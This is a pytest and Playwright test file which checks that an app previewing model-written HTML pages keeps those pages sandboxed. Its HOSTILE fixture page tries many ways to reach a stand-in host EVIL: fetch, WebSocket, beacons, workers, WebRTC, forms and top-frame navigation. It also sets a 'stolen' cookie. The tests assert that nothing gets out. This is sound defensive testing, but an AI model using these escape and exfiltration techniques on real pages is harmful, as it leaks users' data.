"""A page that a model wrote is shown, and reaches nothing."""

import contextlib
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import (
    Browser,
    expect,
)

from tests.app.driver import PacedEngine, generate_once, open_app, preview_text, status
from verify.render import Renderer

# Tries to get out in every way that needs no click, says that it ran, and then leaves.
HOSTILE = """<!doctype html><title>hostile</title>
<meta http-equiv="refresh" content="1;url=http://EVIL/refresh">
<link rel="stylesheet" href="http://EVIL/style"><link rel="prefetch" href="http://EVIL/prefetch">
<link rel="preconnect" href="http://EVIL"><link rel="modulepreload" href="http://EVIL/module">
<style>@import "http://EVIL/import"; body { background: url(http://EVIL/background) }
@font-face { font-family: evil; src: url(http://EVIL/font) } p { font-family: evil }</style>
<img src="http://EVIL/img"><iframe src="http://EVIL/frame"></iframe><embed src="http://EVIL/embed">
<object data="http://EVIL/object"></object><video src="http://EVIL/video" autoplay></video>
<a target="_top" href="http://EVIL/a" ping="http://EVIL/ping">a</a>
<form target="_top" action="http://EVIL/form"></form>
<p>before</p>
<script>
const attempts = [
  () => fetch('http://EVIL/fetch'),
  () => new WebSocket('ws://EVIL/socket'),
  () => new EventSource('http://EVIL/events'),
  () => navigator.sendBeacon('http://EVIL/beacon'),
  () => import('http://EVIL/import'),
  () => new Worker('data:text/javascript,fetch("http://EVIL/worker")'),
  () => { new Image().src = 'http://EVIL/image' },
  () => { top.location = 'http://EVIL/top' },
  () => { parent.location = 'http://EVIL/parent' },
  () => open('http://EVIL/popup'),
  () => document.querySelector('a').click(),
  () => document.querySelector('form').submit(),
  () => { top.document.title = 'owned' },
  () => { parent.parent.document.title = 'owned' },
  () => localStorage.setItem('a', 'b'),
  () => { document.cookie = 'likeness=stolen' },
  () => { document.domain = 'EVIL' },
  () => indexedDB.open('owned'),
  () => navigator.serviceWorker.register('http://EVIL/service'),
  () => new SharedWorker('data:text/javascript,fetch("http://EVIL/shared")'),
  () => { const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/xhr'); x.send(); },
  () => { const f = document.createElement('iframe'); f.src = 'http://EVIL/nested';
    document.body.append(f); },
  () => { const f = document.createElement('iframe');
    f.srcdoc = '<script>fetch("http://EVIL/inner"); top.document.title = "owned"</' + 'script>';
    document.body.append(f); },
  () => { const a = document.createElement('a'); a.href = 'data:text/plain,owned';
    a.download = 'owned.txt'; document.body.append(a); a.click(); },
  () => { const rtc = new RTCPeerConnection({iceServers: [{urls: 'stun:EVIL'}]});
    rtc.createDataChannel('out');
    rtc.createOffer().then(offer => rtc.setLocalDescription(offer)); },
  () => document.documentElement.requestFullscreen(),
  () => navigator.clipboard.writeText('owned'),
  () => history.pushState(null, '', '/owned'),
  () => confirm('dialog'),
  () => alert('dialog'),
  () => top.postMessage({value: 'owned', run: 'owned'}, '*'),
];
for (const attempt of attempts) try { attempt(); } catch {}
console.log('ran');
setTimeout(() => { location = 'http://EVIL/leave' }, 1000);
</script>"""


@pytest.fixture(scope="module")
def renderer() -> Iterator[Renderer]:
    with Renderer(timeout=5.0) as renderer:  # a page that never ends takes all of it
        yield renderer


def received(server: socket.socket) -> list[bytes]:
    """What each connection to the server has sent so far."""
    messages = []
    with contextlib.suppress(BlockingIOError):
        while True:
            connection, _ = server.accept()
            connection.settimeout(0.2)
            try:
                messages.append(connection.recv(1024))
            except TimeoutError:
                messages.append(b"")
    return messages


def test_a_hostile_page_reaches_nothing(
    browser: Browser, screenshot: Path, url: str, monkeypatch: pytest.MonkeyPatch
):
    with (
        socket.create_server(("127.0.0.1", 0)) as evil,
        socket.socket(type=socket.SOCK_DGRAM) as ear,
        browser.new_context() as context,
    ):
        evil.setblocking(False)
        ear.setblocking(False)
        ear.bind(evil.getsockname())
        address = "{}:{}".format(*evil.getsockname())
        monkeypatch.setattr(PacedEngine, "html", HOSTILE.replace("EVIL", address))
        page = open_app(context, url)
        downloads: list[object] = []
        page.on("download", lambda download: downloads.append(download))
        generate_once(page, screenshot)
        expect(preview_text(page)).to_contain_text("before", timeout=60_000)
        page.wait_for_timeout(1500)  # until the refresh
        assert received(evil) == []
        with page.expect_console_message(lambda message: message.text == "ran"):
            page.get_by_label("Run scripts").check()
        page.wait_for_timeout(1500)  # until it leaves
        assert b"".join(received(evil)) == b""
        with pytest.raises(BlockingIOError):
            ear.recv(1024)
        assert downloads == []
        assert len(context.pages) == 1
        assert page.title() == "Likeness"
        assert page.url.startswith(url)
        assert "stolen" not in str(context.cookies())


def test_a_page_that_never_ends_leaves_the_app_usable(
    browser: Browser, screenshot: Path, url: str, monkeypatch: pytest.MonkeyPatch
):
    endless = "<p>before</p><script>while (true);</script>"
    with browser.new_context() as context:
        page = open_app(context, url)
        monkeypatch.setattr(PacedEngine, "html", f"<!doctype html><title>t</title>{endless}")
        generate_once(page, screenshot)
        expect(status(page)).to_contain_text("Failed", timeout=90_000)
        expect(status(page)).to_contain_text("never ends")
